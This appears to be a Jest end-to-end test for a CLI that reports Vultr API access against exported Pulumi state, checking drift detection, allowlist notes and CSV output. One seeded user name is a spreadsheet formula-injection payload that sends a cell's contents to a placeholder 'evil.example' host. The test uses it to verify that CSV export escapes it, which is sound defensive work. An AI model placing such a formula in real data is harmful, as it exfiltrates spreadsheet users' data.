/**
 * End to end: `vultr-api-access report --state` on what the real pulumi CLI writes. A program
 * with two UserApiAccess resources is `pulumi up`ed against the emulator, `pulumi stack export`
 * writes its state to a file, and the report, run through the bin of the packed package as a
 * user installs it, joins that file with the live account.
 */
import { spawn } from "node:child_process";
import { readFile, writeFile } from "node:fs/promises";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { startEmulator, type RunningEmulator, type SeedUser } from "../../emulator";
import type { ReportDocument } from "../../report/types";
import { ALICE, CI_BOT } from "../../scripts/demo-account";
import { findProjectRoot } from "../../scripts/project-root";
import { LocalPulumi } from "../../scripts/pulumi-cli";
import { PulumiStack } from "../../scripts/pulumi-stack";
import { describeWithPulumiCli } from "../support/pulumi-cli-gate";
import { ScratchProject } from "./scratch-project";

jest.setTimeout(3 * 60_000);

const PROJECT_ROOT = findProjectRoot(__dirname);

/** API access nobody declared: the report must call it out. */
const ERIN = { id: "0b7a4f64-4c1e-4b8e-9a51-1f3f3bd0e2a7", email: "erin@example.com", name: "Erin Hughes", api_enabled: true } satisfies SeedUser; // prettier-ignore

/** A name a spreadsheet would run as a formula; the stack later declares an allowlist for her. */
const FORMULA = { id: "5e0b2a8c-7d1f-4c3e-8a6b-2f9d4e1c7b30", email: "formula@example.com", name: '=HYPERLINK("https://evil.example/?d="&A1,"open")', api_enabled: true, ip_whitelist: [{ subnet: "185.199.108.0", subnet_size: 22 }] } satisfies SeedUser; // prettier-ignore

const PROGRAM = `
import { UserApiAccess } from "pulumi-vultr-user-access";

new UserApiAccess("ci-bot", { email: "${CI_BOT.email}", apiEnabled: true });
new UserApiAccess("alice", { userId: "${ALICE.id}", apiEnabled: false });
`;

describeWithPulumiCli("vultr-api-access report with a real stack export", (cli) => {
  let emulator: RunningEmulator;
  let pulumi: LocalPulumi;
  let scratch: ScratchProject;
  let stack: PulumiStack;
  let stateFile: string;

  beforeAll(async () => {
    // Active yesterday, so that drift is the only finding the test provokes.
    const lastActivity = new Date(Date.now() - 86_400_000).toISOString();
    emulator = await startEmulator({
      users: [CI_BOT, ALICE, ERIN, FORMULA].map((user) => ({
        ...user,
        last_activity: lastActivity,
      })),
    });
    emulator.seedUsers(20, 5);
    pulumi = await LocalPulumi.create(cli());
    scratch = await ScratchProject.install(PROJECT_ROOT);
    const projectDir = await scratch.writeProgram("report-e2e", PROGRAM);
    stack = await PulumiStack.init(pulumi, { name: "e2e", projectDir });
    await stack.setConfig("vultr:apiKey", emulator.ownerKey, { secret: true });
    await stack.setConfig("vultr:apiEndpoint", emulator.baseUrl);
    await stack.run(["up", "--yes"]);
    stateFile = path.join(pulumi.rootDir, "report-e2e.json");
    await stack.run(["stack", "export", "--file", stateFile]);
  }, 10 * 60_000);

  afterAll(async () => {
    await emulator?.close();
    await pulumi?.dispose();
    await scratch?.dispose();
  });

  /** The installed bin, as `npx vultr-api-access` runs it, against the emulator. */
  function report(
    args: string[],
  ): Promise<{ code: number | null; stdout: string; stderr: string }> {
    const bin = path.join(scratch.dir, "node_modules", ".bin", "vultr-api-access");
    const child = spawn(bin, args, {
      env: {
        PATH: process.env.PATH,
        VULTR_API_KEY: emulator.ownerKey,
        VULTR_API_ENDPOINT: emulator.baseUrl,
      },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.setEncoding("utf8").on("data", (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding("utf8").on("data", (chunk: string) => (stderr += chunk));
    return new Promise((resolve, reject) => {
      child.on("error", reject);
      child.on("close", (code) => resolve({ code, stdout, stderr }));
    });
  }

  const userIn = (document: ReportDocument, id: string) =>
    document.users.find((user) => user.id === id);

  it("marks the users the stack manages, with what it declares, and flags undeclared API access", async () => {
    const result = await report(["report", "--format", "json", "--state", stateFile]);
    expect(result).toMatchObject({ code: 0, stderr: "" });
    const document = JSON.parse(result.stdout) as ReportDocument;
    expect(document.stacks).toStrictEqual(["report-e2e/e2e"]);
    const declared = (resource: string, declaredApiEnabled: boolean) => ({
      stack: "report-e2e/e2e",
      resource,
      kind: "UserApiAccess",
      declaredApiEnabled,
      declaredAllowedIps: null,
    });
    expect(userIn(document, CI_BOT.id)).toMatchObject({
      apiEnabled: true,
      managedBy: [declared("ci-bot", true)],
    });
    expect(userIn(document, CI_BOT.id)?.findings).not.toContain("unmanaged-api-access");
    expect(userIn(document, ALICE.id)).toMatchObject({
      apiEnabled: false,
      managedBy: [declared("alice", false)],
      findings: [],
    });
    expect(userIn(document, ERIN.id)).toMatchObject({ managedBy: [] });
    expect(userIn(document, ERIN.id)?.findings).toContain("unmanaged-api-access");
  });

  it("reports drift when the account no longer holds what the stack declares, and gates on it", async () => {
    emulator.setUser(ALICE.id, { api_enabled: true }); // re-enabled by hand in the console
    const result = await report(["report", "--format", "json", "--state", stateFile, "--fail-on", "drift"]); // prettier-ignore
    expect(result.code).toBe(3);
    expect(result.stderr).toContain("failing on drift (1 user)");
    const document = JSON.parse(result.stdout) as ReportDocument;
    expect(userIn(document, ALICE.id)?.findings).toStrictEqual(["drift"]);
    expect(userIn(document, CI_BOT.id)?.findings).not.toContain("drift");
  });

  it("after the stack declares allowedIps: a drift gate without --allowlists says it did not check them; the CSV shows a formula name as text", async () => {
    await writeFile(
      path.join(stack.projectDir, "index.ts"),
      `${PROGRAM}new UserApiAccess("formula", { userId: "${FORMULA.id}", apiEnabled: true, allowedIps: ["185.199.108.0/22"] });\n`,
    );
    await stack.run(["up", "--yes"]);
    const exported = path.join(pulumi.rootDir, "report-e2e-allowlists.json");
    await stack.run(["stack", "export", "--file", exported]);
    emulator.setAllowlist(FORMULA.id, [{ subnet: "8.8.8.0", subnet_size: 24 }]); // changed by hand

    const gate = ["report", "--format", "json", "--state", exported, "--fail-on", "drift"];
    const unchecked = await report(gate);
    const note =
      "allowlist drift was not checked: 1 resource of the given stacks declares allowedIps " +
      "(report-e2e/e2e:formula), but --allowlists was not given; add --allowlists to compare " +
      "them with the account";
    expect(unchecked).toMatchObject({ code: 0, stderr: `vultr-api-access: note: ${note}\n` });
    expect((JSON.parse(unchecked.stdout) as ReportDocument).notes).toStrictEqual([note]);
    const checked = await report([...gate, "--allowlists"]);
    expect(checked).toMatchObject({
      code: 3,
      stderr: "vultr-api-access: failing on drift (1 user)\n",
    });

    const csv = path.join(pulumi.rootDir, "report.csv");
    expect((await report(["report", "--allowlists", "--state", exported, "--out", csv])).code).toBe(
      0,
    );
    const rows = parse<Record<string, string>>(await readFile(csv, "utf8"), { columns: true });
    expect(rows.find((row) => row.id === FORMULA.id)).toMatchObject({
      name: `'${FORMULA.name}`,
      managedBy: "report-e2e/e2e:formula=true",
      findings: "drift",
    });
  });
});
